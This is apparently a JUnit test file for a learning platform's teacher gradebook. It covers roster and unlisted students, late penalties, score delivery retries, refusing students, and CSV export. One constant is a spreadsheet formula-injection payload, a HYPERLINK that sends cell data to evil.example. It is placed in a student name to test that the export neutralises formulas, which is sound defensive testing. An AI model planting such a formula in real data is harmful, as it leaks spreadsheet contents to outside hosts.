package io.visiongrade.lms.application;

import static io.visiongrade.lms.application.ChallengeFixture.body;
import static io.visiongrade.lms.application.ChallengeFixture.student;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.visiongrade.lms.domain.DomainException;
import io.visiongrade.lms.domain.course.Exercise;
import io.visiongrade.lms.domain.course.SubmissionKind;
import io.visiongrade.lms.domain.grading.DeliveryState;
import io.visiongrade.lms.domain.grading.LatePolicy;
import io.visiongrade.lms.domain.grading.ScoreDelivery;
import io.visiongrade.lms.domain.submission.Submission;
import io.visiongrade.lms.infrastructure.lti.LaunchSession;
import io.visiongrade.lms.infrastructure.persistence.JdbcGradebookRecords;
import io.visiongrade.lms.lti.LtiErrorCode;
import io.visiongrade.lms.lti.LtiServiceException;
import io.visiongrade.lms.lti.services.Member;
import io.visiongrade.lms.lti.services.Membership;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The teacher's gradebook over the real repositories (H2 with the migrations): roster and unlisted
 * students, points, attempts, lateness, delivery state, a missing roster, the CSV's escaping, and
 * that students are refused.
 */
class GradebookTest {

  static final String LEARNER = "http://purl.imsglobal.org/vocab/lis/v2/membership#Learner";
  static final String INSTRUCTOR = "http://purl.imsglobal.org/vocab/lis/v2/membership#Instructor";
  static final String EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

  @TempDir Path dir;
  ChallengeFixture f;
  GradeSubmissionHandler handler;
  Gradebook gradebook;
  final AtomicReference<Object> roster = new AtomicReference<>();

  @BeforeEach
  void setUp() throws Exception {
    f = new ChallengeFixture(dir);
    handler = new GradeSubmissionHandler(f.submissions, f.library, f.testImages, f.store);
    roster.set(
        new Membership(
            Optional.of("ctx-1"),
            Optional.of("Course ctx-1"),
            List.of(
                member("s1", EVIL, "Zeta", Member.Status.ACTIVE, LEARNER),
                member("s2", "Ada Lovelace", "Lovelace", Member.Status.INACTIVE, LEARNER),
                member("teacher-1", "Tea Cher", "Cher", Member.Status.ACTIVE, INSTRUCTOR))));
    gradebook =
        new Gradebook(
            new Gradebook.CourseSource() {
              @Override
              public long courseId(LaunchSession session) {
                return f.courseId;
              }

              @Override
              public List<Exercise> exercises(LaunchSession session) {
                return List.of(f.exercise);
              }
            },
            session -> {
              Object r = roster.get();
              if (r instanceof LtiServiceException e) {
                throw e;
              }
              return (Membership) r;
            },
            f.submissionRepo,
            new JdbcGradebookRecords(f.ds),
            f.outbox,
            f.clock);
  }

  static Member member(
      String id, String name, String family, Member.Status status, String... roles) {
    return new Member(
        id,
        List.of(roles),
        Optional.of(name),
        Optional.empty(),
        Optional.of(family),
        Optional.empty(),
        status);
  }

  Submission gradeCsv(String user, boolean correct) throws Exception {
    Submission s =
        f.submissions.submit(
            student(user),
            f.exercise.getId(),
            SubmissionKind.PREDICTIONS_CSV,
            body(f.csv(correct)));
    handler.run(new ChallengeFixture.Context(f.jobs.get(s.jobId())));
    return f.submissionRepo.find(s.requireId()).orElseThrow();
  }

  static Gradebook.Row row(Gradebook.View v, String user) {
    return v.students().stream()
        .filter(r -> r.userId().equals(user))
        .findFirst()
        .orElseThrow(() -> new AssertionError("no row of " + user + " in " + v));
  }

  @Test
  void everyRosterStudentAndEveryoneWhoHandedInWorkIsListed() throws Exception {
    Submission good = gradeCsv("s1", true);
    f.clock.advance(Duration.ofMinutes(5));
    gradeCsv("s1", false);
    f.clock.advance(Duration.ofMinutes(5));
    gradeCsv("s3", false); // handed in, not on the roster

    Gradebook.View v = gradebook.view(ChallengeFixture.teacher(), Optional.empty());
    assertTrue(v.rosterProblem().isEmpty());
    assertEquals(1, v.exercises().size());
    assertEquals(
        List.of("s2", "s1", "s3"), v.students().stream().map(Gradebook.Row::userId).toList());

    Gradebook.Cell s1 = row(v, "s1").cells().get(0);
    assertEquals("GRADED", s1.state());
    assertEquals(10.0, s1.points().getAsDouble(), 1e-9);
    assertEquals(10.0, s1.bestPoints().getAsDouble(), 1e-9);
    assertEquals(good.requireId(), s1.countingSubmissionId().orElseThrow());
    assertEquals(2, s1.attemptsUsed());
    assertEquals(2, s1.submissions());
    assertFalse(s1.late());
    Gradebook.Delivery d = s1.delivery().orElseThrow();
    assertEquals(DeliveryState.PENDING, d.state());
    assertTrue(d.retryable());
    assertEquals(Optional.of(EVIL), row(v, "s1").name());
    assertTrue(row(v, "s1").inRoster());

    Gradebook.Row s2 = row(v, "s2");
    assertEquals(Optional.of(Member.Status.INACTIVE), s2.rosterStatus());
    assertEquals("NOT_STARTED", s2.cells().get(0).state());
    assertTrue(s2.cells().get(0).points().isEmpty());
    assertTrue(s2.cells().get(0).delivery().isEmpty());

    Gradebook.Row s3 = row(v, "s3");
    assertFalse(s3.inRoster());
    assertTrue(s3.name().isEmpty());
    assertEquals("GRADED", s3.cells().get(0).state());
    assertTrue(v.students().stream().noneMatch(r -> r.userId().equals("teacher-1")));
  }

  @Test
  void aMissingRosterIsSaidAndKnownStudentsAreStillListed() throws Exception {
    gradeCsv("s1", true);
    roster.set(
        new LtiServiceException(
            LtiErrorCode.PLATFORM_BUSY,
            "The platform answered 503: down for maintenance",
            true,
            503,
            null,
            null));
    Gradebook.View v = gradebook.view(ChallengeFixture.teacher(), Optional.empty());
    assertTrue(v.rosterProblem().orElseThrow().contains("503"), v.rosterProblem().toString());
    assertEquals(List.of("s1"), v.students().stream().map(Gradebook.Row::userId).toList());
    assertTrue(row(v, "s1").name().isEmpty());
  }

  @Test
  void lateWorkShowsItsDaysAndPenaltyAndAnExtension() throws Exception {
    Instant due = f.clock.instant().minus(Duration.ofHours(30));
    f.exercise.schedule(null, due);
    f.exercise.setLatePolicy(new LatePolicy(10, 50));
    f.exercise.grantExtension("s2", f.clock.instant().plus(Duration.ofDays(1)));
    gradeCsv("s1", true);
    gradeCsv("s2", true);

    Gradebook.View v = gradebook.view(ChallengeFixture.teacher(), Optional.empty());
    Gradebook.Cell s1 = row(v, "s1").cells().get(0);
    assertTrue(s1.late());
    assertEquals(2, s1.daysLate());
    assertEquals(20.0, s1.penaltyPercent(), 1e-9);
    assertEquals(8.0, s1.points().getAsDouble(), 1e-9);
    Gradebook.Cell s2 = row(v, "s2").cells().get(0);
    assertFalse(s2.late());
    assertEquals(0, s2.daysLate());
    assertEquals(10.0, s2.points().getAsDouble(), 1e-9);
    assertTrue(s2.extension().isPresent());
  }

  @Test
  void aRefusedDeliveryShowsItsErrorAndCanBeRetried() throws Exception {
    gradeCsv("s1", true);
    long id =
        gradebook.view(ChallengeFixture.teacher(), Optional.empty()).students().stream()
            .filter(r -> r.userId().equals("s1"))
            .findFirst()
            .orElseThrow()
            .cells()
            .get(0)
            .delivery()
            .orElseThrow()
            .id();
    ScoreDelivery d = f.deliveries.find(id).orElseThrow();
    d.claim(f.clock.instant().plusSeconds(60));
    d.failedPermanently("400: the line item is closed");
    f.deliveries.update(d);

    Gradebook.Delivery shown =
        row(gradebook.view(ChallengeFixture.teacher(), Optional.empty()), "s1")
            .cells()
            .get(0)
            .delivery()
            .orElseThrow();
    assertEquals(DeliveryState.FAILED_PERMANENT, shown.state());
    assertEquals(Optional.of("400: the line item is closed"), shown.lastError());
    assertTrue(shown.retryable());
    assertEquals(DeliveryState.PENDING, f.outbox.retry(shown.id()).state());
  }

  @Test
  void oneExerciseOrAnUnknownOne() {
    Gradebook.View v = gradebook.view(ChallengeFixture.teacher(), Optional.of(f.exercise.getId()));
    assertEquals(1, v.exercises().size());
    assertThrows(
        DomainException.NotFound.class,
        () -> gradebook.view(ChallengeFixture.teacher(), Optional.of(f.exercise.getId() + 99)));
  }

  @Test
  void studentsAreRefused() {
    DomainException.Forbidden e =
        assertThrows(
            DomainException.Forbidden.class, () -> gradebook.view(student("s1"), Optional.empty()));
    assertTrue(e.getMessage().contains("teachers"), e.getMessage());
  }

  @Test
  void theCsvNeutralisesFormulasInNamesAndTitles() throws Exception {
    gradeCsv("s1", true);
    String csv = GradebookCsv.write(gradebook.view(ChallengeFixture.teacher(), Optional.empty()));
    String[] lines = csv.split("\r\n");
    assertEquals(3, lines.length, csv); // header, s2, s1 (roster order)
    assertTrue(lines[0].startsWith("user id,name,in roster,Exercise 1 (1) points,"), lines[0]);
    String s1 = lines[2];
    // The name is quoted (it has commas and quotes) and starts with an apostrophe inside.
    assertTrue(
        s1.startsWith(
            "s1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",yes,10,10,1,"
                + "GRADED,0,PENDING,"),
        s1);
    for (String line : lines) {
      for (String cell : line.split(",")) {
        String c = cell.startsWith("\"") ? cell.substring(1) : cell;
        assertFalse(c.startsWith("=") || c.startsWith("@") || c.startsWith("+"), line);
      }
    }
  }
}
